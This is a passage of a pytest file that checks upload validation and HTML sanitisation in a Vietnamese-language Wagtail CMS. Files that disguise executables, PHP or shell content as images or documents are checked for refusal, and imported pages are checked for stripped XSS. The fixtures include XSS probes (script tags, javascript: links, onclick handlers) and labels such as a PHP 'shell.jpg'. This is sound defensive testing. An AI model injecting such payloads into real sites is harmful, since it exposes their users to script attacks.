    ("nen.rar", DOCX, vi(MISMATCH, name="nen.rar", format="RAR")),
], ids=by_name)
def test_documents_that_lie_about_their_content_are_refused(admin_client, name, content,
                                                            message, multiple):
    response = upload_document(admin_client, name, content, multiple)
    refused_with(response, message, multiple)
    assert not get_document_model().objects.exists()


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
def test_a_program_with_a_forbidden_extension_gets_the_vietnamese_extension_message(
        admin_client, multiple):
    response = upload_document(admin_client, "virus.exe", EXE, multiple)
    allowed = "pdf, doc, docx, xls, xlsx, ppt, pptx, odt, ods, rtf, txt, csv, zip, rar, mp4, webm"
    refused_with(response, vi(EXTENSION, extension="exe", allowed_extensions=allowed),
                 multiple)
    assert not get_document_model().objects.exists()


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
@pytest.mark.parametrize("name, content", [
    ("ke-hoach.pdf", PDF),
    ("bao-cao.docx", DOCX),
    ("so-lieu.xlsx", office_zip("xl/")),
    ("trinh-chieu.pptx", office_zip("ppt/")),
    ("van-ban.odt", odf_zip("application/vnd.oasis.opendocument.text")),
    ("cu.doc", build_ole({"WordDocument": b"\xec\xa5" + b"\x00" * 62})),
    ("mau.rtf", b"{\\rtf1\\ansi Xin chao}"),
    ("ghi-chu.txt", "\ufeffThông báo: họp lúc 8 giờ. MZ không phải chương trình".encode()),
    ("danh-sach.csv", "Họ tên,Đơn vị\nAn,Sở\n".encode()),
    ("tep-nen.zip", office_zip("bat-ky/")),
    ("phim.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64),
    ("phim.webm", b"\x1a\x45\xdf\xa3" + b"\x00" * 64),
    ("nen.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64),
])
def test_real_documents_are_accepted(admin_client, name, content, multiple):
    assert_one_document_uploaded(upload_document(admin_client, name, content, multiple), multiple)


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
def test_a_document_over_the_size_limit_is_refused(admin_client, multiple):
    with override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=100):
        response = upload_document(admin_client, "lon.pdf", PDF + b"%" * 200, multiple)
    refused_with(response, "Tệp quá lớn", multiple)
    assert not get_document_model().objects.exists()


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
@pytest.mark.parametrize("name, content, message", [
    ("anh.jpg", EXE, vi(PROGRAM, name="anh.jpg")),
    ("anh.png", SVG, vi(IMAGE_MISMATCH, name="anh.png", format="PNG")),
    ("trang.png", HTML, vi(IMAGE_MISMATCH, name="trang.png", format="PNG")),
    ("shell.jpg", PHP, vi(IMAGE_MISMATCH, name="shell.jpg", format="JPEG")),
    ("lenh.jpg", SHELL, vi(PROGRAM, name="lenh.jpg")),
    ("that-ra-jpeg.png", jpeg_bytes(), vi(IMAGE_MISMATCH, name="that-ra-jpeg.png",
                                          format="PNG")),
], ids=by_name)
def test_images_that_lie_about_their_content_are_refused(admin_client, name, content, message,
                                                         multiple):
    response = upload_image(admin_client, name, content, multiple)
    refused_with(response, message, multiple)
    assert not get_image_model().objects.exists()


@pytest.mark.parametrize("multiple", [False, True], ids=["single", "multiple"])
def test_a_real_photo_is_accepted_and_an_oversized_one_refused(admin_client, multiple):
    with override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=100):
        response = upload_image(admin_client, "lon.jpg", jpeg_bytes(), multiple)
    refused_with(response, "Tệp quá lớn", multiple)
    assert not get_image_model().objects.exists()
    response = upload_image(admin_client, "hoi-thao.jpg", jpeg_bytes(), multiple)
    if multiple:
        assert response.json()["success"] is True
    else:
        assert response.status_code == 302, response.content.decode()[:3000]
    assert get_image_model().objects.count() == 1


def test_the_chooser_upload_checks_content_too(admin_client):
    response = admin_client.post("/admin/documents/chooser/create/", {
        "document-chooser-upload-title": "x",
        "document-chooser-upload-file": SimpleUploadedFile("x.pdf", EXE),
        "document-chooser-upload-collection": root_collection(),
        "document-chooser-upload-tags": ""})
    assert response.status_code == 200
    assert escape(vi(PROGRAM, name="x.pdf")) in json.dumps(response.json(), ensure_ascii=False)
    assert not get_document_model().objects.exists()


OLD_PAGE = """<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"></head><body>
<div class="journal-content-article"><h1>Hội nghị chuyển đổi số</h1><div>Ngày 15-03-2021</div>
<p>Đoạn <b onclick="alert(1)">đậm</b> <a href="javascript:alert(1)">xấu</a>
<script>alert(1)</script><a href="https://e.vn/" onmouseover="alert(1)">tốt</a>
&lt;script&gt;alert(1)&lt;/script&gt; <span onclick="alert(1)">hết</span></p>
<p>Đoạn thứ hai của bài viết, đủ dài để là một đoạn văn.</p></div></body></html>"""


def test_imported_pages_are_stored_clean(tmp_path, category, monkeypatch, client):
    from news import importer
    from news.services import import_old_page

    path = tmp_path / "bai.html"
    path.write_text(OLD_PAGE, encoding="utf-8")
    article, _created = import_old_page(path, category=category, publish=True)
    stored = json.loads(stored_json("news_newsarticlepage", "body", "page_ptr_id", article.pk))
    first = next(item["value"] for item in stored if item["type"] == "paragraph")
    assert "<b>đậm</b>" in first and '<a href="https://e.vn/">tốt</a>' in first
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in first  # text, kept as text
    for item in stored:
        if item["type"] == "paragraph":
            assert_no_executable(item["value"], db_html=True)
            assert clean_rich_text(item["value"]) == item["value"]

    # whatever the parser lets through, the body block cleans it before it is stored: the
    # importer hands Wagtail raw block data, which Wagtail stores without the block's own
    # get_prep_value
    unsafe = importer._inline_html
    monkeypatch.setattr(importer, "_inline_html", lambda node: unsafe(node) + PAYLOADS[0]
                        + '<a href="javascript:alert(1)" onclick="alert(1)">x</a>')
    path.write_text(OLD_PAGE.replace("chuyển đổi số", "cải cách hành chính"), encoding="utf-8")
    article, _created = import_old_page(path, category=category, publish=True)
    stored = stored_json("news_newsarticlepage", "body", "page_ptr_id", article.pk)
    for item in json.loads(stored):
        if item["type"] == "paragraph":
            assert_no_executable(item["value"], db_html=True)
            assert "<script" not in item["value"] and "javascript" not in item["value"]
    revision = article.latest_revision.content["body"]
    revision = json.loads(revision) if isinstance(revision, str) else revision
    assert "<script" not in json.dumps(revision)
    assert_no_executable(client.get(article.url).content.decode(), "imported article")
